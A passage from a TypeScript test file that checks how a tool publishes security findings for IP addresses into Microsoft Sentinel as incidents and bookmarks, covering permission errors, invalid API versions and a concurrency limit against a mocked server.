    expect(rerun[0]).toMatchObject({ action: 'created', incidentId });
    expect(counts(h)).toEqual({ incidents: 3, bookmarks: 3, relations: 3, comments: 0 });
  });

  it('names the missing permission and role when Sentinel answers 403', async () => {
    const h = await setup();
    h.server.deniedActions.add('Microsoft.SecurityInsights/Bookmarks/write');
    const [outcome] = await h.publisher.publish([{ finding: finding('203.0.113.7') }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'failed' });
    expect(outcome!.error).toMatch(/^PUT bookmark \S+ for 203\.0\.113\.7 failed \(403 AuthorizationFailed\): .*does not have authorization/);
    expect(outcome!.error).toContain(
      "(permission denied: the app's identity needs Microsoft.SecurityInsights/Bookmarks/write on the Sentinel workspace (built-in role Microsoft Sentinel Contributor",
    );
    expect(counts(h)).toEqual({ incidents: 0, bookmarks: 0, relations: 0, comments: 0 });
  });

  it('surfaces a rejected api-version as a clear failure per IP', async () => {
    const h = await setup({ apiVersion: '2099-01-01' });
    const outcomes = await publishAll(h, 2);
    expect(outcomes.map((o) => o.action)).toEqual(['failed', 'failed']);
    expect(outcomes[0]!.error).toMatch(/^PUT bookmark [0-9a-f-]{36} for 203\.0\.113\.1 failed \(400 InvalidApiVersionParameter\): The api-version '2099-01-01' is invalid/);
  });

  it('keeps at most `concurrency` IPs in flight', async () => {
    const h = await setup({ concurrency: 2 });
    h.server.faults.latencyMs = 15;
    let inFlight = 0;
    let peak = 0;
    const original = h.client.bookmarks.createOrUpdate.bind(h.client.bookmarks);
    h.client.bookmarks.createOrUpdate = async (...args) => {
      inFlight += 1;
      peak = Math.max(peak, inFlight);
      try {
        return await original(...args);
      } finally {
        inFlight -= 1;
      }
    };
    await publishAll(h, 8);
    expect(peak).toBe(2);
  });
});
